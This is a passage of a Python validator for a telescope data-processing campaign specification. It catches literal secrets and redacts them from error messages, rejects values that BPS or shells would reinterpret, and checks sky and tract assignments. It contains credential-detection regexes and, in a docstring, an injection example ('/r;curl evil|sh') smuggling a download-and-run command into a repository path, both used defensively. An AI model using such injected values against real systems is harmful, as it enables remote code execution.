"""Validation of a loaded campaign: secrets, structure (pydantic), then semantics.

Every problem is collected and reported at once, each at the file, line and column that
holds it, with a hint where one helps.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from pydantic import BaseModel, ValidationError

from .defaults import (
    DEFAULT_CALIBRATIONS,
    INPUT_TYPE_TABLES,
    INPUTS_MANIFEST_TYPE,
    RUCIO_SCOPE_MAX,
    SHARE_SUM_TOLERANCE,
    SHARE_WARNING,
    STORAGE_CLASSES,
)
from .errors import Diagnostic, SpecError, did_you_mean
from .loader import FieldPath, LoadedCampaign
from .model import (
    FILE_URL_PATTERN,
    INPUT_DIMENSION_PATTERN,
    K8S_NAME_PATTERN,
    NAME_PATTERN,
    PG_SCHEMA_PATTERN,
    RSE_PATTERN,
    Campaign,
)
from .naming import ingestd_topic, repository_name
from .plan import Plan
from .rucio_names import name_errors
from .sky import assign_tracts, footprint_of, known_skymaps, resolve_skymap, ring_bands
from .text import bps_problem, shown

RUCIO_SCOPE = re.compile(r"[a-zA-Z_\-.0-9]{1,%d}" % RUCIO_SCOPE_MAX)  # Rucio's scope pattern
SECRET_KEY = re.compile(r"(pass(word|wd)?|token|secret|api[_-]?key|credentials?)$", re.IGNORECASE)
# Keys that name a secret (by reference) rather than hold one.
SECRET_REFERENCE_KEYS = frozenset({"butler_secret"})
ENV_REFERENCE = re.compile(r"^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$")

# Secrets recognised in any string of the spec (values and keys), whatever field holds them.
# Each pattern is linear: no nested quantifiers, and every unbounded repetition starts at a
# literal (a bounded one otherwise), so a megabyte of hostile text costs milliseconds.
SECRET_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("a PEM private key", re.compile(
        r"(?<!-)-{2,}\s{0,5}BEGIN[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?\s{0,5}-{2,10}[\s\S]*?"
        r"(?:-{2,10}\s{0,5}END"
        r"[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?\s{0,5}-{2,10}|$)", re.IGNORECASE)),
    ("an AWS access key and its secret", re.compile(
        r"\b(?:AKIA|ASIA)[0-9A-Z]{16}[\s:,;|=/\"'-]{1,5}[A-Za-z0-9/+=]{40}(?![A-Za-z0-9/+=])")),
    ("an AWS access key id", re.compile(
        r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|APKA)[0-9A-Z]{16}\b")),
    ("an AWS secret access key", re.compile(
        r"aws_?secret_?(?:access_?)?key\W{1,5}[A-Za-z0-9/+=]{40}(?![A-Za-z0-9/+=])",
        re.IGNORECASE)),
    ("a GitHub token", re.compile(
        r"\b(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,})")),
    ("a GitLab token", re.compile(r"\bglpat-[A-Za-z0-9_-]{20,}")),
    ("a Slack token", re.compile(r"\bxox[abeoprs]-[A-Za-z0-9-]{10,}")),
    ("a Google API key", re.compile(r"\bAIza[0-9A-Za-z_-]{35}")),
    ("a bearer token", re.compile(
        r"\bBearer\s+(?=[A-Za-z._~+/-]*[0-9])[A-Za-z0-9._~+/-]{16,}=*", re.IGNORECASE)),
    ("a JSON Web Token", re.compile(
        r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*")),
    ("a password or token in a URL query", re.compile(
        r"[?&;](?:(?:[a-z0-9]{1,20}[_-]|pg)?(?:pass(?:word|wd)?|secret|token)"
        r"|pwd|api_?key|apikey|access_?key|sig"
        r"|signature|x-amz-signature|x-amz-credential|x-amz-security-token|credentials?)"
        r"=(?!\$\{?[A-Za-z_][A-Za-z0-9_]*\}?(?:[&#;]|$))[^&#;\s]+", re.IGNORECASE)),
)
URL_USERINFO = re.compile(r"\b[A-Za-z][A-Za-z0-9+.-]{0,30}://([^/?#@\s]{0,256})@")
TOKEN_LIKE = re.compile(r"^(?=.*[0-9])(?=.*[A-Za-z])[A-Za-z0-9_\-.~+/=]{32,}$")
REDACTED = "<redacted>"
# One of these (lower case) is in every text a pattern of the same index matches: a quick `in`
# skips the regular expressions for the megabyte of text that holds none.
_SECRET_HINTS: tuple[tuple[str, ...], ...] = (
    ("private key",), ("akia", "asia"),
    ("akia", "asia", "agpa", "aida", "aroa", "aipa", "anpa", "anva", "apka"),
    ("secret",), ("gho_", "ghp_", "ghu_", "ghs_", "ghr_", "github_pat_"), ("glpat-",), ("xox",),
    ("aiza",),
    ("bearer",), ("eyj",), ("=",),
)


_PLAIN_KEY = re.compile(r"^[A-Za-z0-9_-]{1,64}$")


def dotted(path: FieldPath) -> str:
    """`sites.usdf.cores`, `stages[2].name`; a key that is not a plain name is shown quoted and
    cut (`sites['x\\ny']`), one that looks like a secret as <redacted>: a path never carries a
    line break, a megabyte of key or a token into a log."""
    out = ""
    for part in path:
        if isinstance(part, int):
            out += f"[{part}]"
        elif _PLAIN_KEY.match(part) and not secret_kind(part):
            out += f".{part}" if out else part
        else:
            out += f"[{REDACTED if secret_kind(part) else shown(part, 40)}]"
    return out


class Collector:
    """Gathers diagnostics with positions from the campaign's source map."""

    def __init__(self, loaded: LoadedCampaign) -> None:
        self.loaded = loaded
        self.items: list[Diagnostic] = []

    def error(self, path: FieldPath, message: str, hint: str | None = None, *,
              key: bool = False) -> None:
        self.items.append(Diagnostic("error", dotted(path), message,
                                     self.loaded.source.locate(path, key=key), hint))

    def warning(self, path: FieldPath, message: str, hint: str | None = None) -> None:
        self.items.append(Diagnostic("warning", dotted(path), message,
                                     self.loaded.source.locate(path), hint))

    @property
    def errors(self) -> list[Diagnostic]:
        return [d for d in self.items if d.severity == "error"]


# -- secrets --------------------------------------------------------------------------------------

def _walk(node: Any, path: FieldPath = ()) -> Iterator[tuple[FieldPath, Any]]:
    yield path, node
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _walk(v, path + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _walk(v, path + (i,))


def secret_kind(text: str) -> str | None:
    """What kind of secret `text` holds (e.g. 'a GitHub token'), or None."""
    low = text.lower()
    for (kind, pattern), hints in zip(SECRET_PATTERNS, _SECRET_HINTS, strict=True):
        if any(h in low for h in hints) and pattern.search(text):
            return kind
    if "@" not in text:
        return None
    for m in URL_USERINFO.finditer(text):
        user, _, password = m.group(1).partition(":")
        if password and not ENV_REFERENCE.match(password):
            return "a URI with a password"
        if not password and TOKEN_LIKE.match(user):
            return "a token as the user name of a URL"
    return None


def _secret_spans(text: str) -> list[str]:
    """The parts of `text` that are secrets (to scrub them from any message, as a last resort)."""
    found = [m.group() for _, pattern in SECRET_PATTERNS for m in pattern.finditer(text)]
    found += [m.group(1) for m in URL_USERINFO.finditer(text)]
    return [f for f in found if len(f) >= 6]


def check_secrets(data: dict[str, Any], out: Collector) -> set[FieldPath]:
    """Reject literal secrets in any value or key; return the paths reported, so that no other
    error repeats (or shows) them. No message shows a secret: only what kind it is."""
    reported: set[FieldPath] = set()
    for path, value in _walk(data):
        key = path[-1] if path and isinstance(path[-1], str) else None
        if key is not None and secret_kind(key):
            out.error(path, f"a key holds {secret_kind(key)}; specs hold no secrets",
                      "remove it; refer to secrets by name (a Kubernetes Secret or an environment "
                      "variable)",
                      key=True)
            reported.add(path)
            continue
        kind = secret_kind(value) if isinstance(value, str) else None
        if kind == "a URI with a password":
            out.error(path, "a URI with a password; specs hold no secrets",
                      "drop the password: PostgreSQL credentials come from ~/.lsst/db-auth.yaml or "
                      "PGPASSWORD at the site, mounted from a Kubernetes Secret for ctrl_ingestd")
            reported.add(path)
        elif kind is not None:
            out.error(path, f"the value holds {kind}; specs hold no secrets",
                      "remove it and revoke it (it is in the file's history now); refer to secrets "
                      "by name: "
                      "a Kubernetes Secret (ingestd.butler_secret) or an environment variable")
            reported.add(path)
        if key and key not in SECRET_REFERENCE_KEYS and SECRET_KEY.search(key):
            if value is not None and not (isinstance(value, str) and ENV_REFERENCE.match(value)) \
                    and not isinstance(value, (dict, list)) and path not in reported:
                out.error(path, f"{shown(key)} holds a literal secret; specs hold no secrets",
                          "store it in a Kubernetes Secret (name it with ingestd.butler_secret) "
                          "or an environment variable, and refer to it by name", key=True)
                reported.add(path)
    return reported


def _scrub(diags: list[Diagnostic], data: dict[str, Any],
           reported: set[FieldPath]) -> list[Diagnostic]:
    """The last line of defence: no diagnostic carries a secret found in the spec, even if some
    message (of pydantic, say) quotes a value."""
    if not reported:
        return diags
    secrets: set[str] = set()
    for path, value in _walk(data):
        texts = [value] if isinstance(value, str) else []
        if path and isinstance(path[-1], str):
            texts.append(path[-1])
        for text in texts:
            for span in _secret_spans(text):
                secrets.update({span, repr(span)[1:-1]})
                secrets.update(line for line in span.splitlines() if len(line) >= 16)
    if not secrets:
        return diags
    ordered = sorted(secrets, key=len, reverse=True)

    def clean(text: str | None) -> str | None:
        if text is None:
            return None
        for secret in ordered:
            if secret in text:
                text = text.replace(secret, REDACTED)
        return text

    return [Diagnostic(d.severity, clean(d.path) or "", clean(d.message) or "", d.position,
                       clean(d.hint))
            for d in diags]


# -- values that reach BPS ------------------------------------------------------------------------

# Spec fields whose values are written into BPS submit files: whether `${NAME}` references
# (expanded by BPS from the environment at submit time) are meant there, and how BPS pastes
# them into its jobs' shell command lines ("word": unquoted, "quoted": inside "...", None: not).
BPS_FIELDS: tuple[tuple[FieldPath, bool, str | None], ...] = (
    (("campaign", "pipeline"), True, "word"),
    (("campaign", "bps_includes", "*"), True, None),
    (("stages", "*", "bps_includes", "*"), True, None),
    (("sites", "*", "bps", "site_config"), True, None),
    (("sites", "*", "butler", "repo"), False, "word"),
    (("stages", "*", "extra_query"), False, "quoted"),
    (("stages", "*", "subset"), False, "word"),
    (("campaign", "input_collections", "*"), False, "word"),
    (("campaign", "output_collection"), False, "word"),
    (("campaign", "stack"), False, "word"),
    (("campaign", "operator"), False, "word"),
    (("metadata", "name"), False, "word"),
    (("metadata", "ticket"), False, "word"),
    (("sites", "*", "panda_site"), False, "word"),
    (("sites", "*", "cloud"), False, "word"),
    (("sites", "*", "bps", "merge_queue"), False, "word"),
)


def _bps_field(path: FieldPath) -> tuple[bool, str | None] | None:
    """(`${NAME}` allowed, shell context) if `path` reaches BPS, else None."""
    for pattern, env, shell in BPS_FIELDS:
        if len(pattern) == len(path) and all(p == "*" or p == q
                                             for p, q in zip(pattern, path, strict=True)):
            return env, shell
    return None


def check_bps_values(data: dict[str, Any], out: Collector, skip: set[FieldPath]) -> set[FieldPath]:
    """Refuse values that ctrl_bps would expand again (`{var}`, `$VAR`, placeholders; there is
    no escape for them, see text.bps_problem), so that `/sps/{payloadName}/repo` or
    `band = '{tract}'` cannot reach BPS and the Butler changed, and values its jobs' shells would
    read as syntax (a repo `/r;curl evil|sh` is pasted unquoted into pipetask command lines)."""
    reported: set[FieldPath] = set()
    for path, value in _walk(data):
        if path in skip or not isinstance(value, str):
            continue
        field = _bps_field(path)
        if field is None:
            continue
        env, shell = field
        problem = bps_problem(value, env=env, shell=shell)
        if problem:
            out.error(path, f"this value goes into BPS submit files, and {problem}",
                      "write the value out literally"
                      + ("; `${NAME}` environment references are allowed in this path"
                         if env else ""))
            reported.add(path)
    return reported


# -- structure -------------------------------------------------------------------------------------

def _inner_model(annotation: Any) -> Any:
    """Unwrap Optional/list/dict/Annotated to the model inside, if any."""
    from typing import get_args, get_origin
    stack = [annotation]
    while stack:
        a = stack.pop()
        if isinstance(a, type) and issubclass(a, BaseModel):
            return a
        origin = get_origin(a)
        args = get_args(a)
        if origin is dict and len(args) == 2:
            return _DictOf(_inner_model(args[1]))
        stack.extend(reversed(args))
    return None


class _DictOf:
    def __init__(self, inner: Any) -> None:
        self.inner = inner


def _allowed_keys(path: FieldPath) -> list[str]:
    model: Any = Campaign
    for part in path:
        if isinstance(part, int):
            continue
        if isinstance(model, _DictOf):
            model = model.inner
            continue
        if not (isinstance(model, type) and issubclass(model, BaseModel)):
            return []
        field = model.model_fields.get(part)
        if field is None:
            return []
        model = _inner_model(field.annotation)
    if isinstance(model, type) and issubclass(model, BaseModel):
        return list(model.model_fields)
    return []


def _literal_hint(err: Mapping[str, Any]) -> str | None:
    expected = (err.get("ctx") or {}).get("expected")
    return f"allowed: {expected}" if expected else None


def structural(loaded: LoadedCampaign, out: Collector, skip: set[FieldPath]) -> Campaign | None:
    try:
        return Campaign.model_validate(loaded.data)
    except ValidationError as exc:
        for err in _one_union_branch(loaded.data, exc.errors(include_url=False)):
            loc: FieldPath = tuple(err["loc"])
            if loc and loc[-1] == "[key]":
                loc = loc[:-1]
                if loc in skip:
                    continue
                out.error(loc, f"invalid name {shown(loc[-1], 40)}: {_pattern_message(err)}",
                          "names are lowercase letters, digits and '-', starting with a letter, "
                          "at most 40 characters", key=True)
                continue
            if any(loc[:len(p)] == p for p in skip):
                continue
            etype = err["type"]
            if etype == "extra_forbidden":
                key = str(loc[-1])
                out.error(loc, f"unknown key {shown(key, 40)}",
                          did_you_mean(key, _allowed_keys(loc[:-1])), key=True)
            elif etype == "missing":
                out.error(loc[:-1], f"required field {shown(loc[-1])} is missing", key=True)
                out.items[-1] = Diagnostic("error", dotted(loc), out.items[-1].message,
                                           out.items[-1].position, None)
            elif etype == "literal_error":
                value = err.get("input")
                hint = None
                expected = (err.get("ctx") or {}).get("expected", "")
                allowed = re.findall(r"'([^']*)'", expected)
                if isinstance(value, str) and allowed and len(value) <= 100:
                    hint = did_you_mean(value, allowed)
                out.error(loc, f"{shown(value)} is not allowed; expected {expected}", hint)
            elif etype == "string_pattern_mismatch":
                value = err.get("input")
                out.error(loc, f"{shown(value)} {_pattern_message(err)}",
                          _pattern_fix(value, (err.get("ctx") or {}).get("pattern")))
            else:
                out.error(loc, _clean(err["msg"]),
                          _literal_hint(err) if etype.startswith("enum") else None)
        return None


# pydantic's names for the branches of a `name or {mapping}` union (model.InputTypeRef)
_SCALAR_BRANCHES = frozenset({"str", "constrained-str"})
_MAPPING_BRANCHES = frozenset({"InputType"})


def _one_union_branch(data: Any, errors: list[Any]) -> list[Any]:
    """Report a value that fits neither branch of a `name or mapping` union once, against the
    branch its shape asks for (a mapping: the mapping's fields; else: the name's rules), with
    the branch's name left out of the field path."""
    kept = []
    for err in errors:
        loc = tuple(err["loc"])
        at = next((i for i, part in enumerate(loc)
                   if part in _SCALAR_BRANCHES or part in _MAPPING_BRANCHES), None)
        if at is None:
            kept.append(err)
            continue
        value = data
        for part in loc[:at]:
            try:
                value = value[part]
            except (KeyError, IndexError, TypeError):
                value = None
                break
        wanted = _MAPPING_BRANCHES if isinstance(value, Mapping) else _SCALAR_BRANCHES
        if loc[at] in wanted:
            kept.append({**err, "loc": loc[:at] + loc[at + 1:]})
    return kept


# The patterns a user meets most, in words (the rest are quoted as regular expressions).
_PATTERN_WORDS = {
    NAME_PATTERN: "is not a valid name: names are lowercase letters, digits and '-', starting "
                  "with a letter, at most 40 characters",
    FILE_URL_PATTERN: "is not a local file URL: it starts with file:// (e.g. "
                      "file:///sdf/data/rubin/rucio/), with no control character or quote",
    RSE_PATTERN: "is not a Rucio RSE name: uppercase letters, digits, '_' and '-' (e.g. "
                 "SLAC_BUTLER_DISK)",
    K8S_NAME_PATTERN: "is not a Kubernetes name: lowercase letters, digits and '-', starting "
                      "and ending with a letter or digit, at most 63 characters",
    PG_SCHEMA_PATTERN: "is not a PostgreSQL schema name drpc writes unquoted: lowercase letters, "
                       "digits and '_', not starting with a digit, at most 63 characters",
    INPUT_DIMENSION_PATTERN: "is not a dimension of an input: one of the campaign's dimensions "
                             "(instrument, visit, exposure, detector, tract, patch, band, "
                             "physical_filter, skymap, day_obs, healpix3..healpix11) or a sky "
                             "pixel level htm1..htm24",
}


def _pattern_message(err: Mapping[str, Any]) -> str:
    pattern = (err.get("ctx") or {}).get("pattern")
    if pattern in _PATTERN_WORDS:
        return _PATTERN_WORDS[pattern]
    from .pattern_words import describe_pattern

    words = describe_pattern(pattern) if pattern else None
    if words:
        return f"is not allowed: it must be {words}"
    return f"does not match the pattern {pattern}" if pattern else _clean(err["msg"])


def _pattern_fix(value: Any, pattern: str | None) -> str | None:
    """A value that fits the pattern, where an obvious one exists: 'did you mean ...?'."""
    if not isinstance(value, str) or not pattern or len(value) > 200:
        return None
    candidates = [value.lower(), value.upper(), value.strip(), value.lower().replace("_", "-"),
                  value.lower().replace("-", "_"),
                  "file://" + value if value.startswith("/") else ""]
    for fixed in candidates:
        if fixed and fixed != value and re.fullmatch(pattern, fixed):
            return f"did you mean {shown(fixed)}?"
    return None


def _clean(msg: str) -> str:
    """pydantic's message, lower-cased at the start, on one line and at most 300 characters."""
    msg = " ".join(msg.split())
    if len(msg) > 300:
        msg = msg[:300] + "..."
    return msg[0].lower() + msg[1:] if msg else msg


# -- semantics -------------------------------------------------------------------------------------

def semantic(spec: Campaign, out: Collector) -> None:
    sites = sorted(spec.sites)
    def site_hint(name: str) -> str | None:
        return did_you_mean(name, sites)

    def site_ref(path: FieldPath, name: str) -> bool:
        if name in spec.sites:
            return True
        out.error(path, f"unknown site {shown(name)}", site_hint(name))
        return False

    site_ref(("campaign", "central_site"), spec.campaign.central_site)
    # A repository name that is no Rucio scope is one problem however many sites share it (the
    # same naming convention at every DF): reported once, at the first such site, naming all.
    bad_scopes: dict[str, list[str]] = {}
    for sid, site in spec.sites.items():
        if site.rucio.scope is not None:
            continue
        default_scope = repository_name(site.butler.repo)
        if not RUCIO_SCOPE.fullmatch(default_scope) and \
                bps_problem(site.butler.repo, shell="word") is None:
            bad_scopes.setdefault(default_scope, []).append(sid)
    for default_scope, sids in bad_scopes.items():
        whose = (f"site {sids[0]} has" if len(sids) == 1
                 else f"sites {', '.join(sids[:-1])} and {sids[-1]} have")
        out.error(("sites", sids[0], "butler", "repo"),
                  f"{whose} no rucio.scope, and the repository's name {shown(default_scope)} "
                  "(the default scope) is no Rucio scope: 1 to "
                  f"{RUCIO_SCOPE_MAX} letters, digits, '_', '-' or '.'",
                  f"set rucio.scope under {', '.join(f'sites.{s}' for s in sids)}; "
                  "rucio-register's convention is the repository's name")

    # stages: how a job is restricted (CONTRACT section 2, Jobs)
    for i, stage in enumerate(spec.stages):
        if stage.select == "all" and stage.runs_at == "every-site":
            out.error(("stages", i, "select"),
                      "select: all (no spatial constraint) runs only at the central site",
                      "use runs_at: central for a global subset, or select: visits or tracts")
        if stage.select == "visits" and stage.runs_at == "central":
            out.error(("stages", i, "select"),
                      "select: visits restricts a job to the visits one site holds; a central "
                      "stage runs once for the whole campaign",
                      "use select: all (a global subset) or tracts (every campaign tract)")

    # stages
    stage_index: dict[str, int] = {}
    for i, stage in enumerate(spec.stages):
        if stage.name in stage_index:
            out.error(("stages", i, "name"), f"duplicate stage name {shown(stage.name)}",
                      f"first declared as stages[{stage_index[stage.name]}]")
        else:
            stage_index[stage.name] = i
    stage_names = list(stage_index)

    # datasets
    seen_types: dict[str, int] = {}
    for i, ds in enumerate(spec.datasets):
        base = ("datasets", i)
        if ds.type in seen_types:
            out.error(base + ("type",), f"dataset type {shown(ds.type)} is declared twice",
                      f"first declared as datasets[{seen_types[ds.type]}]")
        seen_types.setdefault(ds.type, i)
        if len(set(ds.dimensions)) != len(ds.dimensions):
            out.error(base + ("dimensions",), "a dimension is listed twice")
        producer = stage_index.get(ds.produced_by)
        if producer is None:
            out.error(base + ("produced_by",), f"unknown stage {shown(ds.produced_by)}",
                      did_you_mean(ds.produced_by, stage_names))
        for j, consumer in enumerate(ds.consumed_by):
            cpath = base + ("consumed_by", j)
            ci = stage_index.get(consumer)
            if ci is None:
                out.error(cpath, f"unknown stage {shown(consumer)}",
                          did_you_mean(consumer, stage_names))
            elif producer is not None and ci <= producer:
                out.error(cpath, f"stage {shown(consumer)} does not run after the producer "
                                 f"{shown(ds.produced_by)}",
                          "a dataset is consumed only by stages listed after its producer")

    _check_inputs(spec, out, seen_types)

    # skymap and sky
    skymap = resolve_skymap(spec)
    if skymap is None:
        out.error(("campaign", "skymap"), f"unknown skymap {shown(spec.campaign.skymap)}",
                  did_you_mean(spec.campaign.skymap, known_skymaps(spec)) or
                  "declare a ring skymap under `skymaps:`")
    fp = footprint_of(spec)
    if fp.dec_min >= fp.dec_max:
        out.error(("sky", "footprint"),
                  f"dec_min ({fp.dec_min:g}) must be below dec_max ({fp.dec_max:g})")
    assignment = spec.sky.assignment
    apath: FieldPath = ("sky", "assignment")
    if (assignment.rings is None) == (assignment.tracts is None):
        out.error(apath, "give exactly one of `rings` or `tracts`",
                  "rings assign declination bands; tracts list each site's tract ids")
        return
    n_before = len(out.errors)
    if assignment.rings is not None:
        _check_rings(spec, out)
    else:
        _check_tract_lists(spec, out, skymap)
    if len(out.errors) > n_before or skymap is None:
        return
    ownership = assign_tracts(spec, skymap)
    for site_id in sites:
        if not any(s == site_id for s in ownership.owner.values()):
            out.error(("sites", site_id), f"site {shown(site_id)} owns no tract of the footprint",
                      "give it a ring or a tract list, or remove the site", key=True)
    total_share = sum(s.share for s in spec.sites.values())
    if abs(total_share - 1.0) > SHARE_SUM_TOLERANCE:
        out.error(("sites",), f"site shares sum to {total_share:.4f}, not 1",
                  "shares are fractions of the whole campaign; make them add up to 1 "
                  "(within 0.001)", key=True)
    for i, cc in enumerate(spec.sky.cross_check):
        path = ("sky", "cross_check", i)
        if not site_ref(path + ("also_at",), cc.also_at):
            continue
        if not skymap.is_valid_tract(cc.tract):
            out.error(path + ("tract",), f"tract {cc.tract} is not in skymap {shown(skymap.name)}",
                      f"valid ids: 0..{skymap.tract_count() - 1}")
            continue
        owner = ownership.owner.get(cc.tract)
        if owner is None:
            out.error(path + ("tract",), f"tract {cc.tract} is not one of the campaign's tracts",
                      "a cross-check tract must be owned by a site")
        elif owner == cc.also_at:
            out.error(path + ("also_at",), f"tract {cc.tract} is already owned by {shown(owner)}",
                      "also_at names a second site, other than the owner")


_INPUT_WORDS = {"calibrations": "calibration", "refcats": "reference catalog",
                "ancillary": "ancillary"}


def _check_inputs(spec: Campaign, out: Collector, dataset_types: Mapping[str, int]) -> None:
    """Every input type known (or spelled out), sent once, and no campaign output's name."""
    calibs = spec.inputs.calibrations
    instrument = spec.campaign.instrument
    if calibs is not None and calibs.types is None and instrument not in DEFAULT_CALIBRATIONS:
        out.error(("inputs", "calibrations"),
                  f"drpc knows no calibration types of instrument {shown(instrument)}",
                  f"list them in inputs.calibrations.types (defaults exist for "
                  f"{', '.join(sorted(DEFAULT_CALIBRATIONS))})", key=True)
    curated = spec.butler.calibrations
    if calibs is not None and curated.curated and \
            calibs.collection == (curated.collection or f"{instrument}/calib"):
        out.error(("inputs", "calibrations", "collection"),
                  f"{shown(calibs.collection)} is the collection every site writes its curated "
                  "calibrations into (butler.calibrations)",
                  "name the certified collection the central site sends, e.g. "
                  f"{instrument}/calib/<ticket>, or set butler.calibrations.curated: false")
    groups: list[tuple[str, FieldPath, list[Any]]] = []
    if calibs is not None and calibs.types is not None:
        groups.append(("calibrations", ("inputs", "calibrations", "types"), calibs.types))
    for kind in ("refcats", "ancillary"):
        for i, item in enumerate(getattr(spec.inputs, kind)):
            groups.append((kind, ("inputs", kind, i, "types"), item.types))
    seen: dict[str, str] = {}
    for kind, base, refs in groups:
        table, words = INPUT_TYPE_TABLES[kind], _INPUT_WORDS[kind]
        for j, ref in enumerate(refs):
            path = base + (j,)
            name = ref if isinstance(ref, str) else ref.type
            if isinstance(ref, str) and ref not in table:
                known = did_you_mean(ref, sorted(table)) or ""
                out.error(path, f"unknown {words} dataset type {shown(ref)}",
                          f"{known}; for a type drpc does not know, give {{type: {ref}, "
                          "dimensions: [...], storage_class: ...}")
            if name in seen:
                out.error(path, f"input dataset type {shown(name)} is sent twice",
                          f"first listed at {seen[name]}")
            elif name in dataset_types or name == INPUTS_MANIFEST_TYPE:
                out.error(path, f"{shown(name)} is a campaign output (datasets[]) or drpc's own "
                                "type, not an input")
            seen.setdefault(name, dotted(path))


def _check_rings(spec: Campaign, out: Collector) -> None:
    rings = spec.sky.assignment.rings or []
    fp = footprint_of(spec)
    if not rings:
        out.error(("sky", "assignment", "rings"), "no rings given")
        return
    for i, ring in enumerate(rings):
        if ring.site not in spec.sites:
            out.error(("sky", "assignment", "rings", i, "site"), f"unknown site {shown(ring.site)}",
                      did_you_mean(ring.site, spec.sites))
    bands = ring_bands(spec)
    prev_max: float | None = None
    for i, (ring, band) in enumerate(zip(rings, bands, strict=True)):
        path = ("sky", "assignment", "rings", i)
        if band.dec_min >= band.dec_max:
            out.error(path + ("dec_max",),
                      f"ring {i + 1} is empty or reversed: "
                      f"dec {band.dec_min:g} .. {band.dec_max:g}",
                      "rings are listed south to north with increasing dec_max")
        if prev_max is not None and ring.dec_min is not None:
            if ring.dec_min < prev_max:
                out.error(path + ("dec_min",),
                          f"ring {i + 1} overlaps ring {i}: it starts at {ring.dec_min:g}, "
                          f"below the previous dec_max {prev_max:g}")
            elif ring.dec_min > prev_max:
                out.error(path + ("dec_min",), f"gap between ring {i} and ring {i + 1}: "
                          f"dec {prev_max:g} .. {ring.dec_min:g} is in no ring")
        prev_max = band.dec_max
    if bands[0].dec_min > fp.dec_min:
        out.error(("sky", "assignment", "rings", 0, "dec_min"),
                  f"the rings start at dec {bands[0].dec_min:g}, north of the footprint's dec_min "
                  f"{fp.dec_min:g}",
                  "the rings must cover the footprint with no gap")
    if bands[-1].dec_max < fp.dec_max:
        out.error(("sky", "assignment", "rings", len(rings) - 1, "dec_max"),
                  f"the rings end at dec {bands[-1].dec_max:g}, south of the footprint's dec_max "
                  f"{fp.dec_max:g}",
                  "the rings must cover the footprint with no gap")
    _warn_rings_past_footprint(rings, bands, fp, out)


def _warn_rings_past_footprint(rings: list[Any], bands: list[Any], fp: Any,
                               out: Collector) -> None:
    """A ring that reaches past the footprint is legal (the footprint decides which tracts take
    part) but says something the campaign will not do: warn, once per ring, at the limit."""
    for i, (ring, band) in enumerate(zip(rings, bands, strict=True)):
        path = ("sky", "assignment", "rings", i)
        if band.dec_min >= band.dec_max:
            continue  # already an error
        if band.dec_min >= fp.dec_max or band.dec_max <= fp.dec_min:
            out.warning(path + ("dec_max",),
                        f"ring {i + 1} ({ring.site}, dec {band.dec_min:g} .. {band.dec_max:g}) "
                        f"lies wholly outside the footprint (dec {fp.dec_min:g} .. "
                        f"{fp.dec_max:g}): it owns no tract",
                        "remove the ring, or widen sky.footprint")
        elif band.dec_max > fp.dec_max:
            out.warning(path + ("dec_max",),
                        f"ring {i + 1} ({ring.site}) reaches dec {band.dec_max:g}, past the "
                        f"footprint's dec_max {fp.dec_max:g}: tracts north of {fp.dec_max:g} "
                        "take no part",
                        f"end it at {fp.dec_max:g}, or widen sky.footprint")
        elif ring.dec_min is not None and band.dec_min < fp.dec_min:
            out.warning(path + ("dec_min",),
                        f"ring {i + 1} ({ring.site}) starts at dec {band.dec_min:g}, past the "
                        f"footprint's dec_min {fp.dec_min:g}: tracts south of {fp.dec_min:g} "
                        "take no part",
                        f"start it at {fp.dec_min:g} (or leave dec_min out), or widen "
                        "sky.footprint")


def _check_tract_lists(spec: Campaign, out: Collector, skymap: Any) -> None:
    lists = spec.sky.assignment.tracts or {}
    first_owner: dict[int, tuple[str, int]] = {}
    fp = spec.sky.footprint
    for site in lists:
        base = ("sky", "assignment", "tracts", site)
        if site not in spec.sites:
            out.error(base, f"unknown site {shown(site)}", did_you_mean(site, spec.sites), key=True)
        for j, tract in enumerate(lists[site]):
            path = base + (j,)
            if skymap is not None and not skymap.is_valid_tract(tract):
                out.error(path, f"tract {tract} is not in skymap {shown(skymap.name)}",
                          f"valid ids: 0..{skymap.tract_count() - 1}")
                continue
            if tract in first_owner:
                other, k = first_owner[tract]
                where = f"sky.assignment.tracts.{other}[{k}]"
                out.error(path,
                          f"tract {tract} is assigned to two sites "
                          f"({shown(other)} and {shown(site)})",
                          f"already listed at {where}")
                continue
            first_owner[tract] = (site, j)
            if skymap is not None and fp is not None:
                dec = skymap.tract_center(tract)[1]
                if not (fp.dec_min <= dec <= fp.dec_max):
                    out.error(path,
                              f"tract {tract} (centre dec {dec:.4f}) lies outside the footprint "
                              f"dec {fp.dec_min:g} .. {fp.dec_max:g}")


def validate_loaded(loaded: LoadedCampaign) -> tuple[Campaign, list[Diagnostic]]:
    """Validate a loaded campaign; raise SpecError with every error, else return the model."""
    out = Collector(loaded)
    secrets = check_secrets(loaded.data, out)
    skip = secrets | check_bps_values(loaded.data, out, secrets)
    spec = structural(loaded, out, skip)
    if spec is not None:
        semantic(spec, out)
    items = _scrub(sorted(out.items, key=Diagnostic.sort_key), loaded.data, secrets)
    if out.errors or spec is None:
        raise SpecError(items)
    return spec, items



# -- warnings that need the plan ------------------------------------------------------------------



def plan_errors(plan: Plan, loaded: LoadedCampaign) -> list[Diagnostic]:
    """Errors only the plan reveals: files would arrive at a site that runs no ctrl_ingestd, or
    as a dataset type no destination can register."""
    out = Collector(loaded)
    for site in plan.sites:
        arrivals = plan.arrivals(site.id)
        if arrivals and site.ingestd is None:
            topics = sorted(ingestd_topic(a.rse, a.scope) for a in arrivals)
            moves = sum(len(a.moves) for a in arrivals)
            rses = ", ".join(sorted({a.rse for a in arrivals}))
            out.error(("sites", site.id),
                      f"{moves} transfer(s) arrive at {site.id} ({rses}) but the site has no "
                      "'ingestd' section, so nothing would ingest them into its Butler",
                      f"add sites.{site.id}.ingestd with namespace, image, kafka_brokers and "
                      f"butler_secret; ctrl_ingestd will listen on {', '.join(topics)}", key=True)
    for i, ds in enumerate(plan.datasets):
        moves = any(t.dataset_type == ds.type for t in plan.transfers)
        if moves and ds.storage_class is None:
            known = ", ".join(sorted(set(STORAGE_CLASSES.values())))
            out.error(("datasets", i, "type"),
